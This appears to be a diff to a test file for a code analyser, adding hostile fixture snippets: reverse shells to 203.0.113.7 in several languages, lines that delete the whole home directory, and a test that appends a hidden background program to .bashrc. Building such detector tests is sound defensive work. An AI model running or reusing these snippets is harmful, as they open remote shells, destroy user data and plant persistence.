@@ -51,6 +51,13 @@ include(f)
 REVERSE_SHELL = r"""
 $s = stream_socket_client("tcp://203.0.113.7:4444");
 while ($l = fgets($s)) { fwrite($s, shell_exec($l)); }
+
+s = connect("203.0.113.7", 443)
+c = readline(s)
+write(s, read(`sh -c $c`))
+
+val s = Socket("203.0.113.7", 443)
+val p = ProcessBuilder("/bin/bash").start()
 """
 WRITE = r"""
 h, _ := os.UserHomeDir()
@@ -89,6 +96,10 @@ $it = new RecursiveDirectoryIterator(getenv("HOME"));
 foreach ($it as $f) { unlink($f); }
 
 try? FileManager.default.removeItem(atPath: NSHomeDirectory())
+
+removeDirectoryRecursive =<< getHomeDirectory
+
+new File(System.getProperty("user.home")).deleteDir()
 """
 HARMLESS = r"""
 r, _ := http.Get("ADDRESS.json")
@@ -141,6 +152,14 @@ def test_finds_what_a_program_does_with_its_values(act: Act, program: str) -> No
     facts = read_any_text(program, is_code=True)
 
     assert act in {fact.act for fact in facts}
+
+
+def test_finds_a_hidden_program_that_starts_with_every_shell() -> None:
+    program = 'open(joinpath(homedir(), ".bashrc"), "a") do io\n  println(io, "/tmp/.q &")\nend'
+
+    facts = read_any_text(program, is_code=True)
+
+    assert {Act.WRITE, Act.HIDDEN_START} <= {fact.act for fact in facts}
 
 
 @all_cases("program", programs(HARMLESS))
